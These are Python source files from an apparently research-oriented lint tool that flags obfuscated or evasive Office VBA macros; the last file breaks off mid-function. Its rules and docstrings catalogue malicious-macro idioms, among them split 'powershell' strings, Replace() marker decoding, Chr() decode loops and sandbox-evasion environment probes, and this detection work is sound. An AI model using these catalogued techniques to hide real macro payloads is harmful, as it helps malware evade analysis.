"""Pluggable lint-rule registry, mirroring :mod:`repro.features.registry`.

Every rule is a stateless class deriving :class:`Rule` and decorated with
:func:`register_rule`; it walks the shared
:class:`~repro.lint.context.LintContext` and yields
:class:`~repro.lint.findings.Finding` records.  New rules plug in without
touching any call site:

    >>> @register_rule
    ... class SuspiciousSleep(Rule):
    ...     rule_id = "o4-suspicious-sleep"
    ...     o_class = "O4"
    ...     severity = "low"
    ...     description = "Sleep() stalling inside macro code"
    ...     def scan(self, ctx):
    ...         ...

The built-in O1–O4 and anti-analysis rules register themselves when
:mod:`repro.lint.rules` is imported (which :mod:`repro.lint` does).
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from typing import TYPE_CHECKING

from repro.lint.context import LintContext, token_span
from repro.lint.findings import O_CLASSES, SEVERITIES, Finding, sort_findings
from repro.vba.analyzer import MacroAnalysis, analyze
from repro.vba.tokens import Token

if TYPE_CHECKING:  # pragma: no cover
    from repro.sa.records import StringRecovery


class Rule:
    """Base class: one registered static-analysis rule.

    Subclasses set the class attributes and implement :meth:`scan`.
    Rules are stateless singletons — ``scan`` must not mutate ``self``.
    """

    rule_id: str = ""
    o_class: str = ""
    severity: str = "medium"
    description: str = ""

    def scan(self, ctx: LintContext) -> Iterable[Finding]:
        raise NotImplementedError

    def finding(
        self,
        ctx: LintContext,
        token: Token,
        message: str,
        *,
        severity: str | None = None,
        evidence: str | None = None,
    ) -> Finding:
        """Build a finding anchored at ``token`` with this rule's metadata."""
        return Finding(
            rule_id=self.rule_id,
            o_class=self.o_class,
            severity=severity or self.severity,
            line=token.line,
            span=token_span(token),
            message=message,
            evidence=ctx.evidence(token) if evidence is None else evidence,
        )


_REGISTRY: dict[str, Rule] = {}


def register_rule(cls: type[Rule]) -> type[Rule]:
    """Class decorator: validate and register one rule singleton."""
    if not cls.rule_id:
        raise ValueError(f"{cls.__name__} must set a non-empty rule_id")
    if cls.o_class not in O_CLASSES:
        raise ValueError(
            f"rule {cls.rule_id!r} has unknown o_class {cls.o_class!r}"
        )
    if cls.severity not in SEVERITIES:
        raise ValueError(
            f"rule {cls.rule_id!r} has unknown severity {cls.severity!r}"
        )
    if cls.rule_id in _REGISTRY:
        raise ValueError(f"rule {cls.rule_id!r} already registered")
    _REGISTRY[cls.rule_id] = cls()
    return cls


def get_rule(rule_id: str) -> Rule:
    try:
        return _REGISTRY[rule_id]
    except KeyError:
        known = ", ".join(sorted(_REGISTRY)) or "(none)"
        raise KeyError(f"unknown rule {rule_id!r}; registered: {known}") from None


def all_rules() -> tuple[Rule, ...]:
    """Every registered rule, in deterministic (rule-id) order."""
    return tuple(_REGISTRY[rule_id] for rule_id in sorted(_REGISTRY))


def rule_ids() -> tuple[str, ...]:
    return tuple(sorted(_REGISTRY))


def rules_for_class(o_class: str) -> tuple[Rule, ...]:
    """All registered rules evidencing one obfuscation class."""
    return tuple(rule for rule in all_rules() if rule.o_class == o_class)


def _resolve(rules: Sequence[str | Rule] | None) -> tuple[Rule, ...]:
    if rules is None:
        return all_rules()
    return tuple(
        rule if isinstance(rule, Rule) else get_rule(rule) for rule in rules
    )


def lint_analysis(
    analysis: MacroAnalysis,
    rules: Sequence[str | Rule] | None = None,
    *,
    recovery: "StringRecovery | None" = None,
) -> list[Finding]:
    """Run the selected rules (default: all) over one macro analysis.

    ``recovery`` carries the statically recovered strings from a
    ``repro.sa`` pass; without it the ``SA`` rules have nothing to scan
    and stay silent.
    """
    ctx = LintContext(analysis, recovery=recovery)
    findings: list[Finding] = []
    for rule in _resolve(rules):
        findings.extend(rule.scan(ctx))
    return sort_findings(findings)


def lint_source(
    source: str, rules: Sequence[str | Rule] | None = None
) -> list[Finding]:
    """Analyze one bare VBA source and run the selected rules over it."""
    return lint_analysis(analyze(source), rules)


def iter_rules() -> Iterator[Rule]:  # pragma: no cover - convenience alias
    yield from all_rules()
