"""SA — rules over statically recovered strings.

These rules read ``ctx.recovery`` (the :mod:`repro.sa` result attached by
the engine's recover stage) instead of the token stream: the payload they
flag only exists *after* constant folding, so there is no pre-decode
token to anchor on.  Findings anchor at the line of the statement that
produced the recovered string, with the decoded value as evidence.

When the recover pass did not run (``ctx.recovery is None``) every rule
here stays silent, so plain ``repro lint`` output is unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable

from repro.lint.context import LintContext
from repro.lint.findings import Finding
from repro.lint.registry import Rule, register_rule
from repro.sa.iocs import find_iocs
from repro.sa.records import RecoveredString

#: Evidence cap: decoded payloads can be huge; show a grep-able prefix.
_EVIDENCE_LIMIT = 120

#: Per-rule finding cap — a 512-string recovery must not flood the report.
_MAX_FINDINGS = 32

#: Shortest recovered value worth a disagreement finding; below this the
#: "hidden" literal is too generic to mean anything (e.g. ``"open"``).
_MIN_DISAGREEMENT_LENGTH = 6


def _evidence(value: str) -> str:
    text = value.replace("\n", "\\n").replace("\r", "\\r")
    if len(text) > _EVIDENCE_LIMIT:
        text = text[: _EVIDENCE_LIMIT - 1] + "…"
    return f'"{text}"'


class RecoveredStringRule(Rule):
    """Base for rules scanning recovered strings rather than tokens."""

    o_class = "SA"

    def scan(self, ctx: LintContext) -> Iterable[Finding]:
        if ctx.recovery is None:
            return
        emitted = 0
        for record in ctx.recovery.strings:
            for message in self.inspect(ctx, record):
                yield Finding(
                    rule_id=self.rule_id,
                    o_class=self.o_class,
                    severity=self.severity,
                    line=record.line,
                    span=(1, 1),
                    message=message,
                    evidence=_evidence(record.value),
                )
                emitted += 1
                if emitted >= _MAX_FINDINGS:
                    return

    def inspect(
        self, ctx: LintContext, record: RecoveredString
    ) -> Iterable[str]:
        raise NotImplementedError


@register_rule
class RecoveredIoc(RecoveredStringRule):
    """An IOC (URL, shell command, payload name…) inside a decoded string."""

    rule_id = "sa-recovered-ioc"
    severity = "high"
    description = "decoded string contains an indicator of compromise"

    def inspect(self, ctx: LintContext, record: RecoveredString):
        for kind, match in find_iocs(record.value):
            if kind == "autoexec":
                continue  # RecoveredAutoOpen owns that kind
            yield (
                f"recovered string (via {record.origin}) contains "
                f"{kind} IOC {match!r}"
            )


@register_rule
class RecoveredAutoOpen(RecoveredStringRule):
    """An auto-execution entry-point name assembled at runtime."""

    rule_id = "sa-recovered-autoopen"
    severity = "high"
    description = "decoded string names an auto-execution entry point"

    def inspect(self, ctx: LintContext, record: RecoveredString):
        for kind, match in find_iocs(record.value):
            if kind != "autoexec":
                continue
            yield (
                f"auto-execution name {match!r} assembled at runtime "
                f"(via {record.origin})"
            )


@register_rule
class LiteralDisagreement(RecoveredStringRule):
    """A recovered string that appears nowhere in the raw source.

    Benign concatenation re-assembles text that is visible in the source
    literals; a decoded value *absent* from the source means the literals
    were deliberately salted, reversed or character-coded.
    """

    rule_id = "sa-literal-disagreement"
    severity = "medium"
    description = "decoded string does not occur in the source literals"

    def scan(self, ctx: LintContext) -> Iterable[Finding]:
        if ctx.recovery is None:
            return
        source_lower = ctx.analysis.source.lower()
        emitted = 0
        for record in ctx.recovery.strings:
            value = record.value
            if len(value) < _MIN_DISAGREEMENT_LENGTH:
                continue
            if value.lower() in source_lower:
                continue
            yield Finding(
                rule_id=self.rule_id,
                o_class=self.o_class,
                severity=self.severity,
                line=record.line,
                span=(1, 1),
                message=(
                    f"{len(value)}-char decoded string (via {record.origin}) "
                    "never appears in the source — literals were transformed"
                ),
                evidence=_evidence(value),
            )
            emitted += 1
            if emitted >= _MAX_FINDINGS:
                return

    def inspect(self, ctx: LintContext, record: RecoveredString):
        raise AssertionError("unused; scan is overridden")  # pragma: no cover
