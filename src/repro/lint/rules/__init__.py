"""Built-in lint rules.

Importing this package registers every built-in rule with
:mod:`repro.lint.registry` as an import side effect — one module per
obfuscation class plus the anti-analysis catalog.
"""

from repro.lint.rules import (  # noqa: F401  (imported for registration)
    antianalysis,
    o1_random,
    o2_split,
    o3_encoding,
    o4_logic,
    recovered,
)
