"""O2 — string-splitting obfuscation rules.

Split obfuscation carves string data into fragments reassembled at
runtime: back-to-back literal concatenation (``"pow" & "ers" & "hell"``),
one- and two-character fragments hoisted into module constants, unused
dummy string declarations, and ``Mid``/``Left``/``Right``/``StrReverse``
carving over literals.  Benign code has no reason to write any of these —
a constant expression is always written as one literal.
"""

from __future__ import annotations

from repro.lint.context import (
    LintContext,
    is_keyword,
    is_name,
    is_operator,
    is_punct,
)
from repro.lint.registry import Rule, register_rule
from repro.vba.tokens import Token, TokenKind

_CONCAT = ("&", "+")


def iter_const_declarations(ctx: LintContext):
    """Yield ``(name_token, value_token)`` for single-literal Const items.

    Handles ``[Public|Private|Global] Const name [As Type] = "literal"``
    with multiple comma-separated items per statement.
    """
    for statement in ctx.statements:
        index = 0
        if index < len(statement) and is_keyword(
            statement[index], "public", "private", "global"
        ):
            index += 1
        if index >= len(statement) or not is_keyword(statement[index], "const"):
            continue
        index += 1
        while index < len(statement):
            if statement[index].kind is not TokenKind.IDENTIFIER:
                break
            name_token = statement[index]
            index += 1
            if index < len(statement) and is_keyword(statement[index], "as"):
                index += 2  # skip the type name
            if index >= len(statement) or not is_operator(statement[index], "="):
                break
            index += 1
            value_token: Token | None = None
            if (
                index < len(statement)
                and statement[index].kind is TokenKind.STRING
                and (
                    index + 1 >= len(statement)
                    or is_punct(statement[index + 1], ",")
                )
            ):
                value_token = statement[index]
            # Skip the initializer expression up to the next item separator.
            while index < len(statement) and not is_punct(statement[index], ","):
                index += 1
            index += 1
            if value_token is not None:
                yield name_token, value_token


@register_rule
class LiteralConcatenation(Rule):
    """Adjacent *short* string literals joined with ``&``/``+``.

    Benign code concatenates literals too — multi-line SQL, path joining
    (``basePath & "\\" & "data.xlsx"``) — but those fragments are readable
    words.  Split obfuscators carve strings into 1–4 character chunks, so
    the rule demands at least one adjacent pair where *both* literals are
    that short: ``"pow" & "ers" & "hell"`` fires, readable joins do not.
    """

    rule_id = "o2-literal-concat"
    o_class = "O2"
    severity = "medium"
    description = "short string fragments concatenated back-to-back"

    _MAX_FRAGMENT = 4

    def scan(self, ctx: LintContext):
        for statement in ctx.statements:
            index = 0
            while index + 2 < len(statement):
                if not (
                    statement[index].kind is TokenKind.STRING
                    and is_operator(statement[index + 1], *_CONCAT)
                    and statement[index + 2].kind is TokenKind.STRING
                ):
                    index += 1
                    continue
                literals = [statement[index], statement[index + 2]]
                end = index + 2
                while (
                    end + 2 < len(statement)
                    and is_operator(statement[end + 1], *_CONCAT)
                    and statement[end + 2].kind is TokenKind.STRING
                ):
                    literals.append(statement[end + 2])
                    end += 2
                short_pair = any(
                    len(a.string_value) <= self._MAX_FRAGMENT
                    and len(b.string_value) <= self._MAX_FRAGMENT
                    for a, b in zip(literals, literals[1:])
                )
                if short_pair:
                    yield self.finding(
                        ctx,
                        statement[index],
                        f"{len(literals)} string literals concatenated "
                        "back-to-back from short fragments (split-string "
                        "reassembly)",
                    )
                index = end + 1


@register_rule
class FragmentConstant(Rule):
    """A module constant holding a one- or two-character string fragment."""

    rule_id = "o2-fragment-const"
    o_class = "O2"
    severity = "medium"
    description = "Const holds a tiny string fragment of a split literal"

    def scan(self, ctx: LintContext):
        for name_token, value_token in iter_const_declarations(ctx):
            value = value_token.string_value
            if 0 < len(value) <= 2:
                yield self.finding(
                    ctx,
                    name_token,
                    f"constant {name_token.text!r} holds the "
                    f"{len(value)}-char fragment {value!r}",
                )


@register_rule
class DummyStringConstant(Rule):
    """A string constant that nothing in the module ever reads.

    The paper notes split-obfuscated macros 'contain many unused dummy
    strings'; obfuscators pad modules with them to skew string statistics.
    """

    rule_id = "o2-dummy-string"
    o_class = "O2"
    severity = "low"
    description = "unused dummy string constant"

    def scan(self, ctx: LintContext):
        for name_token, value_token in iter_const_declarations(ctx):
            if len(value_token.string_value) < 3:
                continue  # fragments are the other rule's business
            if ctx.use_counts.get(name_token.text.lower(), 0) == 0:
                yield self.finding(
                    ctx,
                    name_token,
                    f"string constant {name_token.text!r} is never read "
                    "(dummy string)",
                )


@register_rule
class CarvedLiteral(Rule):
    """``Mid``/``Left``/``Right``/``StrReverse`` applied to a string literal.

    Carving characters out of a literal at runtime (or reversing one) is
    a split idiom: the value being hidden exists only after the call.
    """

    rule_id = "o2-carved-literal"
    o_class = "O2"
    severity = "medium"
    description = "substring/reverse call carves data out of a string literal"

    _CARVERS = ("mid", "left", "right", "strreverse")

    def scan(self, ctx: LintContext):
        tokens = ctx.significant
        for index, token in enumerate(tokens[: len(tokens) - 2]):
            if (
                is_name(token, *self._CARVERS)
                and is_punct(tokens[index + 1], "(")
                and tokens[index + 2].kind is TokenKind.STRING
            ):
                yield self.finding(
                    ctx,
                    token,
                    f"{token.text}() carves data out of a string literal "
                    "at runtime",
                )
