"""O3 — encoding obfuscation rules.

Encoding obfuscation transforms string parameters so the payload only
exists after a runtime decode: ``Chr()`` concatenation chains, numeric
``Array(...)`` blobs fed to user-defined decoders, character-decode
loops, hex- and Base64-packed literals, and constant ``Replace()``
marker removal.  Each emitted decoder family from the corpus obfuscator
(and from olevba-class real samples) trips at least one rule here.
"""

from __future__ import annotations

from repro.lint.context import (
    LintContext,
    is_keyword,
    is_name,
    is_punct,
)
from repro.lint.registry import Rule, register_rule
from repro.vba.tokens import Token, TokenKind

_CHR_NAMES = ("chr", "chrw", "chrb")
_HEX_DIGITS = frozenset("0123456789abcdefABCDEF")
_B64_ALPHABET = frozenset(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
)


def _balanced_argument(tokens: list[Token], open_index: int) -> list[Token]:
    """Tokens inside the parenthesis opened at ``open_index`` (exclusive)."""
    depth = 0
    body: list[Token] = []
    for token in tokens[open_index:]:
        if is_punct(token, "("):
            depth += 1
            if depth == 1:
                continue
        elif is_punct(token, ")"):
            depth -= 1
            if depth == 0:
                break
        if depth >= 1:
            body.append(token)
    return body


@register_rule
class ChrChain(Rule):
    """Three or more ``Chr(<number>)`` calls in one statement."""

    rule_id = "o3-chr-chain"
    o_class = "O3"
    severity = "high"
    description = "string assembled from a chain of Chr() character codes"

    def scan(self, ctx: LintContext):
        for statement in ctx.statements:
            first: Token | None = None
            count = 0
            for index, token in enumerate(statement[: len(statement) - 2]):
                if (
                    is_name(token, *_CHR_NAMES)
                    and is_punct(statement[index + 1], "(")
                    and statement[index + 2].kind is TokenKind.NUMBER
                ):
                    count += 1
                    first = first or token
            if count >= 3 and first is not None:
                yield self.finding(
                    ctx,
                    first,
                    f"chain of {count} Chr(<code>) calls assembles a hidden "
                    "string",
                )


@register_rule
class NumericArray(Rule):
    """``Array(...)`` holding a run of plain numbers — encoded byte data."""

    rule_id = "o3-numeric-array"
    o_class = "O3"
    severity = "medium"
    description = "long all-numeric Array() literal (encoded payload bytes)"

    def scan(self, ctx: LintContext):
        tokens = ctx.significant
        for index, token in enumerate(tokens[: len(tokens) - 1]):
            if not (is_name(token, "array") and is_punct(tokens[index + 1], "(")):
                continue
            body = _balanced_argument(tokens, index + 1)
            if not body:
                continue
            numbers = sum(1 for t in body if t.kind is TokenKind.NUMBER)
            separators = sum(1 for t in body if is_punct(t, ","))
            if numbers >= 4 and numbers == separators + 1 and len(body) == (
                numbers + separators
            ):
                yield self.finding(
                    ctx,
                    token,
                    f"Array() of {numbers} plain numbers looks like encoded "
                    "payload bytes",
                )


@register_rule
class DecodeLoop(Rule):
    """A loop body computing characters with ``Chr(<expression>)``.

    ``acc = acc & Chr(src(i) - 105)`` / ``Chr(b Xor key)`` inside a
    For/Do/While loop is the canonical shape of a user-defined decoder.
    Only non-trivial arguments count — ``Chr(65)`` alone is not a decode.
    """

    rule_id = "o3-decode-loop"
    o_class = "O3"
    severity = "high"
    description = "character-decode expression inside a loop"

    def scan(self, ctx: LintContext):
        depth = 0
        for statement in ctx.statements:
            head = statement[0]
            if is_keyword(head, "for", "do", "while"):
                depth += 1
                continue
            if is_keyword(head, "next", "loop", "wend"):
                depth = max(0, depth - 1)
                continue
            if depth == 0:
                continue
            for index, token in enumerate(statement[: len(statement) - 1]):
                if not (
                    is_name(token, *_CHR_NAMES)
                    and is_punct(statement[index + 1], "(")
                ):
                    continue
                argument = _balanced_argument(statement, index + 1)
                if self._is_computed(argument):
                    yield self.finding(
                        ctx,
                        token,
                        "Chr() over a computed value inside a loop — "
                        "runtime string decoder",
                    )
                    break

    @staticmethod
    def _is_computed(argument: list[Token]) -> bool:
        if len(argument) <= 1:
            return False  # bare number / bare name is not a decode
        return any(
            token.kind is TokenKind.OPERATOR
            or is_keyword(token, "xor", "and", "or", "not", "mod")
            or is_punct(token, "(")
            for token in argument
        )


@register_rule
class HexPackedLiteral(Rule):
    """A string literal that is one long run of hex digit pairs."""

    rule_id = "o3-hex-literal"
    o_class = "O3"
    severity = "medium"
    description = "string literal packed as hexadecimal byte pairs"

    def scan(self, ctx: LintContext):
        for token in ctx.significant:
            if token.kind is not TokenKind.STRING:
                continue
            value = token.string_value
            if (
                len(value) >= 8
                and len(value) % 2 == 0
                and all(ch in _HEX_DIGITS for ch in value)
            ):
                yield self.finding(
                    ctx,
                    token,
                    f"{len(value)}-char literal is a pure hex-digit run "
                    f"({len(value) // 2} packed bytes)",
                )


@register_rule
class Base64ShapedLiteral(Rule):
    """A string literal shaped like Base64-encoded data."""

    rule_id = "o3-base64-literal"
    o_class = "O3"
    severity = "medium"
    description = "string literal shaped like Base64 data"

    def scan(self, ctx: LintContext):
        for token in ctx.significant:
            if token.kind is not TokenKind.STRING:
                continue
            value = token.string_value
            stripped = value.rstrip("=")
            if len(value) - len(stripped) > 2:
                continue
            if (
                len(stripped) >= 16
                and len(value) % 4 == 0
                and all(ch in _B64_ALPHABET for ch in stripped)
                and any(ch.islower() for ch in stripped)
                and any(ch.isupper() for ch in stripped)
            ):
                yield self.finding(
                    ctx,
                    token,
                    f"{len(value)}-char literal matches the Base64 shape",
                )


@register_rule
class ReplaceMarkerDecode(Rule):
    """``Replace()`` over three literals — compile-time-constant decoding.

    ``Replace("savteRKtofilteRK", "teRK", "e")`` only makes sense when the
    first literal was deliberately salted; benign code replaces within
    *variables*, not within constants.
    """

    rule_id = "o3-replace-marker"
    o_class = "O3"
    severity = "high"
    description = "Replace() with all-literal arguments strips an inserted marker"

    def scan(self, ctx: LintContext):
        tokens = ctx.significant
        for index, token in enumerate(tokens[: len(tokens) - 6]):
            if not (is_name(token, "replace") and is_punct(tokens[index + 1], "(")):
                continue
            window = tokens[index + 2 : index + 7]
            if (
                window[0].kind is TokenKind.STRING
                and is_punct(window[1], ",")
                and window[2].kind is TokenKind.STRING
                and is_punct(window[3], ",")
                and window[4].kind is TokenKind.STRING
            ):
                yield self.finding(
                    ctx,
                    token,
                    "Replace() over three string literals — marker-decode of "
                    "a constant",
                )
