"""AA — anti-analysis technique rules (the paper's §VI.B catalog).

These port the three :mod:`repro.detect.antianalysis` detectors onto the
shared rule registry so anti-analysis tricks surface in the same findings
stream as O1–O4 obfuscation.  Matching is token-based rather than
regex-over-raw-source, which fixes the historical false positives on
``Timer``/``GetTickCount`` appearing inside string literals, comments, or
as substrings of longer identifiers (``MyTimer``).

:mod:`repro.detect.antianalysis` re-exposes these rules under its original
``scan_macro`` API, so both entry points share one implementation.
"""

from __future__ import annotations

import re

from repro.lint.context import (
    LintContext,
    is_keyword,
    is_name,
    is_punct,
)
from repro.lint.findings import Finding
from repro.lint.registry import Rule, register_rule
from repro.vba.parser import VBAParseError, parse_module
from repro.vba.tokens import Token, TokenKind

_USERFORM = re.compile(r"userform\d*\Z")

#: Storage-read members that return data when *called* (need a ``(``).
_CALL_MEMBERS = ("variables", "customdocumentproperties")
#: Storage-read members that hide data in plain control properties.
_PROPERTY_MEMBERS = ("caption", "controltiptext", "tag")

#: Keywords that make a statement a guard condition.
_CONDITION_KEYWORDS = ("if", "elseif", "while", "until")


@register_rule
class HiddenStringRead(Rule):
    """Payload strings read from document storage instead of literals.

    Document variables, custom document properties, and control captions
    (Fig. 8(a) and [MS-OFORMS]) let a macro keep its strings out of the
    module text entirely; any such read is worth surfacing.
    """

    rule_id = "aa-hidden-strings"
    o_class = "AA"
    severity = "high"
    description = "string data read from document storage instead of a literal"

    def scan(self, ctx: LintContext):
        tokens = ctx.significant
        for index, token in enumerate(tokens):
            nxt = tokens[index + 1] if index + 1 < len(tokens) else None
            nxt2 = tokens[index + 2] if index + 2 < len(tokens) else None
            if is_punct(token, ".") and nxt is not None:
                if is_name(nxt, *_CALL_MEMBERS) and nxt2 is not None and is_punct(
                    nxt2, "("
                ):
                    yield self._read(ctx, token, f".{nxt.text}(")
                elif is_name(nxt, *_PROPERTY_MEMBERS):
                    yield self._read(ctx, token, f".{nxt.text}")
            elif (
                token.kind is TokenKind.IDENTIFIER
                and _USERFORM.match(token.text.lower())
                and nxt is not None
                and is_punct(nxt, ".")
                and nxt2 is not None
                and nxt2.kind in (TokenKind.IDENTIFIER, TokenKind.KEYWORD)
            ):
                yield self._read(ctx, token, f"{token.text}.{nxt2.text}")

    def _read(self, ctx: LintContext, token: Token, expr: str) -> Finding:
        return self.finding(ctx, token, f"document-storage read: {expr!r}")


@register_rule
class BrokenCodeShadow(Rule):
    """Fig. 8(b): unparseable code shadowed by an early ``Exit``.

    The signature is an ``Exit Sub``/``Exit Function`` followed by
    statements (before ``End Sub``) that the strict parser rejects while
    the prefix up to the exit parses fine — broken junk that never runs
    but crashes naive parsers.
    """

    rule_id = "aa-broken-code"
    o_class = "AA"
    severity = "high"
    description = "unparseable statements hidden behind an early Exit"

    def scan(self, ctx: LintContext):
        tokens = ctx.significant
        exit_lines = [
            token.line
            for index, token in enumerate(tokens[:-1])
            if is_keyword(token, "exit")
            and tokens[index + 1].text.lower() in ("sub", "function")
        ]
        if not exit_lines:
            return
        try:
            parse_module(ctx.analysis.source)
            return  # everything parses: nothing broken after the exit
        except VBAParseError as error:
            for exit_line in exit_lines:
                if error.line > exit_line:
                    yield Finding(
                        rule_id=self.rule_id,
                        o_class=self.o_class,
                        severity=self.severity,
                        line=error.line,
                        span=(1, max(2, len(ctx.line_text(error.line)) + 1)),
                        message=(
                            f"unparseable statement at line {error.line} is "
                            f"shadowed by Exit at line {exit_line}: {error}"
                        ),
                        evidence=ctx.line_text(error.line),
                    )
                    return


@register_rule
class FlowEvasionGuard(Rule):
    """Sandbox-evasion guards wrapping the payload (§VI.B.3 and [45]).

    Fires only when the environment probe sits in a *condition* statement
    (``If``/``ElseIf``/``While``/``Until``) — reading ``Environ`` into a
    variable is ordinary code, branching on it is evasion.
    """

    rule_id = "aa-flow-evasion"
    o_class = "AA"
    severity = "high"
    description = "environment-check guard around macro logic"

    def scan(self, ctx: LintContext):
        for statement in ctx.statements:
            if not any(
                is_keyword(token, *_CONDITION_KEYWORDS) for token in statement
            ):
                continue
            for index, token in enumerate(statement):
                if self._is_probe(statement, index):
                    yield self.finding(
                        ctx,
                        token,
                        "environment-check guard: "
                        f"{ctx.line_text(token.line)!r}",
                    )

    @staticmethod
    def _is_probe(statement: list[Token], index: int) -> bool:
        token = statement[index]
        nxt = statement[index + 1] if index + 1 < len(statement) else None
        nxt2 = statement[index + 2] if index + 2 < len(statement) else None

        # GetTickCount / Timer used as a bare timing probe.
        if is_name(token, "gettickcount", "timer"):
            return True
        # RecentFiles.Count
        if (
            is_name(token, "recentfiles")
            and nxt is not None
            and is_punct(nxt, ".")
            and nxt2 is not None
            and is_name(nxt2, "count")
        ):
            return True
        # Application.Windows.Count — anchor on the Windows member.
        if (
            is_name(token, "windows")
            and index >= 2
            and is_punct(statement[index - 1], ".")
            and is_name(statement[index - 2], "application")
            and nxt is not None
            and is_punct(nxt, ".")
            and nxt2 is not None
            and is_name(nxt2, "count")
        ):
            return True
        # .MousePointer sandbox probe.
        if (
            is_punct(token, ".")
            and nxt is not None
            and is_name(nxt, "mousepointer")
        ):
            return True
        # Environ("USERNAME") / Environ("COMPUTERNAME")
        if (
            is_name(token, "environ")
            and nxt is not None
            and is_punct(nxt, "(")
            and nxt2 is not None
            and nxt2.kind is TokenKind.STRING
            and nxt2.string_value.upper() in ("USERNAME", "COMPUTERNAME")
        ):
            return True
        return False
