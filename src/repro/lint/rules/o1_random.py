"""O1 — random-identifier obfuscation rules.

O1 obfuscators rename every declared identifier to machine-generated
noise (``ueiwjfdjkfdsv``, ``bakoteruna``, ``x7k2p9q4w``).  Human VBA code
carries the opposite signals: dictionary fragments, CamelCase/Hungarian
casing, short loop variables.  Two rules key on that difference — a
per-name gibberish test and a module-level naming-profile test.
"""

from __future__ import annotations

import re

from repro.lint.context import LintContext
from repro.lint.registry import Rule, register_rule

_VOWELS = frozenset("aeiou")
_DIGIT_GROUPS = re.compile(r"[0-9]+")


def looks_machine_generated(name: str) -> bool:
    """Heuristic: is this identifier machine noise rather than a human name?

    Only caseless (no interior capitals, no underscores) names of six or
    more characters qualify — casing and word separators are strong human
    signals, and short names (``i``, ``cnt``, ``tmp``) are idiomatic VBA.
    """
    if len(name) < 6:
        return False
    if any(ch.isupper() for ch in name) or "_" in name:
        return False
    # Letter-digit soup: ``x7k2p9q4w`` — several digit islands in one name.
    if len(_DIGIT_GROUPS.findall(name)) >= 2:
        return True
    letters = [ch for ch in name if ch.isalpha()]
    if len(letters) < 6:
        return False
    vowel_ratio = sum(ch in _VOWELS for ch in letters) / len(letters)
    run = longest = 0
    for ch in letters:
        run = run + 1 if ch not in _VOWELS else 0
        longest = max(longest, run)
    # Uniform letter soup: long consonant pileups or near-vowel-free names.
    if longest >= 4:
        return True
    if vowel_ratio <= 0.2:
        return True
    # Consonant-vowel generators: near-perfect alternation sustained over
    # 8+ letters, which English compounds essentially never do lowercase.
    if len(letters) >= 8 and 0.3 <= vowel_ratio <= 0.6:
        flips = sum(
            (a in _VOWELS) != (b in _VOWELS)
            for a, b in zip(letters, letters[1:])
        )
        if flips / (len(letters) - 1) >= 0.8:
            return True
    return False


@register_rule
class GibberishIdentifier(Rule):
    """A declared identifier that reads as machine-generated noise."""

    rule_id = "o1-gibberish-identifier"
    o_class = "O1"
    severity = "medium"
    description = (
        "declared identifier looks randomly generated "
        "(consonant soup, digit islands, or synthetic syllables)"
    )

    def scan(self, ctx: LintContext):
        for name in ctx.analysis.declared_identifiers:
            if not looks_machine_generated(name):
                continue
            token = ctx.first_name_token.get(name.lower())
            if token is None:
                continue
            yield self.finding(
                ctx,
                token,
                f"identifier {name!r} looks machine-generated",
            )


@register_rule
class NamingProfile(Rule):
    """Every declared name in the module is caseless machine-style.

    Real macros virtually always declare at least one CamelCase procedure
    or Hungarian-prefixed variable; a module whose *entire* declaration
    set is long caseless names has been bulk-renamed.
    """

    rule_id = "o1-naming-profile"
    o_class = "O1"
    severity = "low"
    description = "all declared identifiers share a caseless machine-naming profile"

    def scan(self, ctx: LintContext):
        declared = ctx.analysis.declared_identifiers
        if len(declared) < 2:
            return
        if not all(len(name) >= 6 and name == name.lower() for name in declared):
            return
        token = ctx.first_name_token.get(declared[0].lower())
        if token is None:
            return
        yield self.finding(
            ctx,
            token,
            f"all {len(declared)} declared identifiers are long caseless "
            "names — bulk-renaming profile",
        )
