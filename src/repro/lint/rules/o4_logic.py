"""O4 — logic/dummy-code obfuscation rules.

Logic obfuscation inflates modules with code that never contributes to
execution: junk procedures nothing calls, module-level declarations
nothing reads, statements parked behind an unconditional ``Exit Sub``,
and no-op arithmetic.  All four shapes are detectable from the token
stream without running anything.
"""

from __future__ import annotations

from repro.lint.context import LintContext, is_keyword, is_operator
from repro.lint.registry import Rule, register_rule
from repro.vba.tokens import Token, TokenKind

#: Entry points the Office host invokes directly — never dead code.
_HOST_ENTRY_POINTS = frozenset(
    {
        "auto_open",
        "auto_close",
        "auto_exec",
        "autoopen",
        "autoclose",
        "autoexec",
        "document_open",
        "document_close",
        "document_new",
        "workbook_open",
        "workbook_close",
    }
)


def procedure_header(statement: list[Token]) -> tuple[str, Token] | None:
    """Parse ``[visibility] [Static] Sub|Function name`` statement heads.

    Returns ``(visibility, name_token)`` or ``None``.  ``Property``
    procedures are skipped: accessors are invoked implicitly by reads and
    writes, so a use count says nothing about their liveness.
    """
    index = 0
    visibility = "public"
    if index < len(statement) and is_keyword(
        statement[index], "public", "private", "friend"
    ):
        visibility = statement[index].text.lower()
        index += 1
    if index < len(statement) and is_keyword(statement[index], "static"):
        index += 1
    if index >= len(statement) or not is_keyword(
        statement[index], "sub", "function"
    ):
        return None
    index += 1
    if index >= len(statement) or statement[index].kind is not TokenKind.IDENTIFIER:
        return None
    return visibility, statement[index]


def iter_dim_names(statement: list[Token]):
    """Yield the name tokens declared by a ``Dim``/``Static`` statement."""
    index = 0
    if index < len(statement) and is_keyword(
        statement[index], "public", "private", "global"
    ):
        index += 1
    if index >= len(statement) or not is_keyword(statement[index], "dim", "static"):
        return
    index += 1
    depth = 0
    expecting_name = True
    while index < len(statement):
        token = statement[index]
        if token.kind is TokenKind.PUNCT:
            if token.text == "(":
                depth += 1
            elif token.text == ")":
                depth = max(0, depth - 1)
            elif token.text == "," and depth == 0:
                expecting_name = True
        elif is_keyword(token, "as"):
            expecting_name = False
        elif (
            token.kind is TokenKind.IDENTIFIER and expecting_name and depth == 0
        ):
            yield token
            expecting_name = False
        index += 1


@register_rule
class DeadProcedure(Rule):
    """A ``Private`` procedure that no code in the module ever invokes.

    Private procedures are invisible to the host's macro UI, so an
    uncalled one is unreachable by construction — the signature of
    inserted junk procedures.  Public procedures and host entry points
    are exempt (the host calls them).
    """

    rule_id = "o4-dead-procedure"
    o_class = "O4"
    severity = "medium"
    description = "private procedure is never invoked (dead junk code)"

    def scan(self, ctx: LintContext):
        for statement in ctx.statements:
            header = procedure_header(statement)
            if header is None:
                continue
            visibility, name_token = header
            name = name_token.text.lower()
            if visibility != "private" or name in _HOST_ENTRY_POINTS:
                continue
